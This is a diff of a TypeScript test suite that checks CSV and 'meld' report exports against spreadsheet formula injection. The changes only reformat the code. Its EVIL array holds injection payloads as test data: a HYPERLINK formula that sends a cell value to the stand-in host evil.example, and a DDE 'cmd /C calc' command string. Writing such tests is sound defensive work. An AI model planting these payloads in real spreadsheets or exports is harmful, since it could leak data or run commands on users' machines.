@@ -13,7 +13,7 @@ import { tmpDir } from '../helpers/tmp';
 
 const EVIL = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(A1:A9)',
   "'=already quoted",
@@ -38,10 +38,16 @@ describe('CSV formula injection', () => {
   });
 
   it('report --format csv: no cell starts a formula', () => {
-    const rows = EVIL.map((text, i) => row({
-      id: i + 1, text, speaker: i % 2 ? '@speaker' : '-dash', dialogue: '=1', label: i === 0 ? '+label' : 'joy',
-      prediction: { model_version: 1, label: '=pred', probabilities: { '+label': 0.5, joy: 0.5 } },
-    }));
+    const rows = EVIL.map((text, i) =>
+      row({
+        id: i + 1,
+        text,
+        speaker: i % 2 ? '@speaker' : '-dash',
+        dialogue: '=1',
+        label: i === 0 ? '+label' : 'joy',
+        prediction: { model_version: 1, label: '=pred', probabilities: { '+label': 0.5, joy: 0.5 } },
+      }),
+    );
     const csv = toCsv({ model_version: 1, labels: ['+label', 'joy'], split: null, rows });
     const cells = (parse(csv, { bom: true }) as string[][]).flat();
     expect(cells.filter((c) => TRIGGER.test(c))).toEqual([]);
@@ -53,7 +59,9 @@ describe('CSV formula injection', () => {
   });
 
   it('report --format meld: no cell starts a formula; the importer reads the exact values back', () => {
-    const rows = EVIL.map((text, i) => row({ id: i + 1, split: 'dev', dialogue: '3', index: i, text, speaker: i % 2 ? '@Ann' : "-Bob", label: 'joy' }));
+    const rows = EVIL.map((text, i) =>
+      row({ id: i + 1, split: 'dev', dialogue: '3', index: i, text, speaker: i % 2 ? '@Ann' : '-Bob', label: 'joy' }),
+    );
     const [dev] = meldFiles(rows);
     const cells = (parse(dev.csv) as string[][]).flat();
     expect(cells.filter((c) => TRIGGER.test(c))).toEqual([]);
